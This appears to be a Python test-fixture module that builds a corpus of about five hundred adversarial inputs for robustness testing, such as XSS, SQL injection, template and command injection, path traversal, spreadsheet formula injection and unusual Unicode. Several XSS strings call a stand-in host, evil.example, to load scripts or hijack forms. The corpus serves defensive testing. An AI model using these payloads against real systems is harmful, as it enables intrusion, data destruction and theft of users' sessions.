"""Five hundred texts that have broken pages, parsers, databases and terminals elsewhere."""

from __future__ import annotations

from itertools import product

CALLS = ("alert(1)", "top.ran=1", "fetch('//evil.example')")
TAGS = ("img src=x onerror={}", "svg onload={}", "body onload={}", "iframe src=javascript:{}",
        "input autofocus onfocus={}", "details open ontoggle={}", "video src=x onerror={}",
        "marquee onstart={}", "a href=javascript:{}", "object data=javascript:{}",
        "style onload={}", "link rel=stylesheet href=x onerror={}")  # fmt: skip
CLOSERS = ("", '"', "'", "-->", "</textarea>", "</title>", "</option></select>", "]]>", "</bdi>")
SCRIPTS = ("<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
           "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script>", "<script/x>{}</script>",
           "\ufeff<script>{}</script>",
           "＜script＞{}＜/script＞", "&lt;script&gt;{}&lt;/script&gt;",
           "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
           "%3Cscript%3E{}%3C/script%3E", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}",
           "data:text/html,<script>{}</script>", "vbscript:{}")  # fmt: skip
HANDLERS = ("onclick", "onmouseover", "onfocus", "style", "formaction", "srcdoc", "autofocus")
TEMPLATES = ("{{ 7*7 }}", "{% raw %}", "{% endblock %}", "{{ config }}", "{{ ''.__class__ }}",
             "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{", "}}}", "%(version)s", "%s%s%s%n", "{0}",
             "{version}", "{}", "{# a comment #}", "{%", "$$", "`id`", "$(id)",
             "|id", ";id")  # fmt: skip
SQL = ("' OR 1=1 --", "'; DROP TABLE claim; --", '"; DELETE FROM claim; --', "1; SELECT 1", "''",
       "\\'", "\\", "%", "_", "%' ESCAPE '!", "' UNION SELECT 1 --", "NULL", "None", "nil",
       "undefined", "true", "false", "NaN", "Infinity", "-1", "0", "1e309", "0x0", "1/0", "--",
       "/*",
       "*/", "$1", ":name", "?", "'); COMMIT; --", "E'\\x00'", "\\copy", "\\!",
       ".shell id")  # fmt: skip
SEARCH = ('"', "AND", "OR NOT", "NEAR(", "a*", "^a", "col:", "(", ")", '""', "topic:\"", "a:b:c",
          "-", "+", "!", "&", "|", "<->", "to_tsquery('a')")  # fmt: skip
SCRIPTS_OF_THE_WORLD = (
    "字节跳动保留百分之八十", "バイトダンス", "틱톡", "ไทยไม่มีช่องว่าง", "ستحتفظ بحصة 80%", "תיקטוק",
    "हिन्दी", "ગુજરાતી", "Ελληνικά", "Русский", "አማርኛ", "ᚠᛇᚻ", "ﷺ", "ﷺ" * 40, "İstanbul", "ıIiİ",
    "Straße", "ﬁﬂ", "ǅ", "①②③", "𝕋𝕙𝕖", "ᏣᎳᎩ", "Ω≈ç√∫", "åß∂ƒ©", "¡™£¢∞§¶•ªº", "œ∑´®†¥", "田中さん",
)  # fmt: skip
EMOJI = ("😀", "🧑‍🚀", "🇺🇸", "👩‍👩‍👧‍👦", "❤️", "1️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "😀" * 200, "👍🏽", "🤷‍♀️",
         "\u200d", "\ufe0f", "🇺", "💩", "\U0010ffff", "\U000e0041")  # fmt: skip
UNSEEN = tuple(f"a{chr(code)}b" for code in (
    *range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA1), 0xAD, 0x34F, 0x61C,
    0x115F, 0x180E, *range(0x2000, 0x2010), *range(0x2028, 0x2030), *range(0x2060, 0x2070), 0x3000,
    0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xE000, 0x1D173, 0xE0001,
))  # fmt: skip
DIRECTIONS = ("\u202etxet", "\u202dabc\u202e", "\u2066abc", "\u2067abc\u2069", "‮moc.live‬",
              "a\u202eb\u2066c\u2069d", "\u200fabc", "\u061c80%")  # fmt: skip
COMBINED = ("Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "e\u0301", "\u0301e", "a" + "\u0301" * 300, "ḍ̇", "각", "각", "Å", "Å")
LONG = ("x" * 400, "x " * 200, "w" * 5_000, "長" * 200, "<" * 300, '"' * 300, "&" * 300, "\\" * 300,
        "&amp;" * 60, "-" * 200, "." * 200)  # fmt: skip
SPACES = (" ", "\t", "\n", "\r\n", " x ", "\nx", "x\n", "x\n\ny", "\u00a0", "\u2003", "x\u2028y",
          "x\u2029y", "x\x85y", "x\ry", "a\n<script>alert(1)</script>")  # fmt: skip
PATHS = ("../../etc/passwd", "..\\..\\x", "/dev/null", "file:///etc/passwd", "http://127.0.0.1/",
         "//evil.example", "http://a:b@c/", "CON", "LPT1", ".", "..", "%00", "%0a", "%2e%2e%2f",
         "\\\\server\\share", "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1+1",
         "\t=1+1")  # fmt: skip
ENTITIES = ("&lt;", "&#0;", "&#x1F;", "&notit;", "&", "&&", "&amp;amp;", "<", ">", "<>", "</",
            "<!--",
            "<!doctype html>", "<?xml?>", "<![CDATA[", "&quot;", "&apos;", "&nbsp;", "<b>bold</b>",
            "</p></div></main></body></html>", "</form><form action=//evil.example>",
            '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//x">',
            "<plaintext>", "<noscript>", "<template>", "<math><mtext></mtext></math>")  # fmt: skip
NUMBERS = ("1,000,000.00", "1.000.000,00", "１２３", "٣", "½", "-0", "1e1000", "9" * 50,
           "0.1.2", "1_000",
           "80%", "$5", "5 km", "2020-13-45", "0000-00-00", "2020-02-30", "9999-12-31",
           "2020/..", "../..", "-5000", "y-99999", "described:", "A (for )", "(for X)")  # fmt: skip


def _all() -> tuple[str, ...]:
    tagged = [f"{closer}<{tag.format(CALLS[0])}>" for closer, tag in product(CLOSERS, TAGS)]
    scripted = [script.format(call) for script, call in product(SCRIPTS, CALLS)]
    handled = [f"{q}{name}={q}alert(1){q} x={q}" for name, q in product(HANDLERS, "\"'` ")]
    families = (TEMPLATES, SQL, SEARCH, SCRIPTS_OF_THE_WORLD, EMOJI, UNSEEN, DIRECTIONS, COMBINED,
                LONG, SPACES, PATHS, ENTITIES, NUMBERS)  # fmt: skip
    listed = [*tagged, *scripted, *handled, *(text for family in families for text in family)]
    return tuple(dict.fromkeys(listed))


def _bundled(texts: tuple[str, ...], longest: int = 450) -> tuple[str, ...]:
    """Put texts together, as many as a line takes; one that is longer stays alone."""
    bundles = [""]
    for text in texts:
        joined = f"{bundles[-1]} {text}"
        bundles[-1:] = [joined] if len(joined) <= longest else [bundles[-1], text]
    return tuple(bundles)


TEXTS = _all()
BUNDLES = _bundled(TEXTS)
# One of each way to break out of a text, an attribute, a control or a statement.
FEW = (
    '"><script>alert(1)</script>', "</textarea><img src=x onerror=alert(1)>", "' onfocus='alert(1)",
    "{{ 7*7 }}", "'; DROP TABLE claim; --", "\u202etxet", "a\x01b", "😀" * 100, "x\u2028y",
    "</option></select><svg onload=alert(1)>", "&lt;b&gt;", "長" * 150, "ﷺ" * 40, "%00", "\\",
)  # fmt: skip
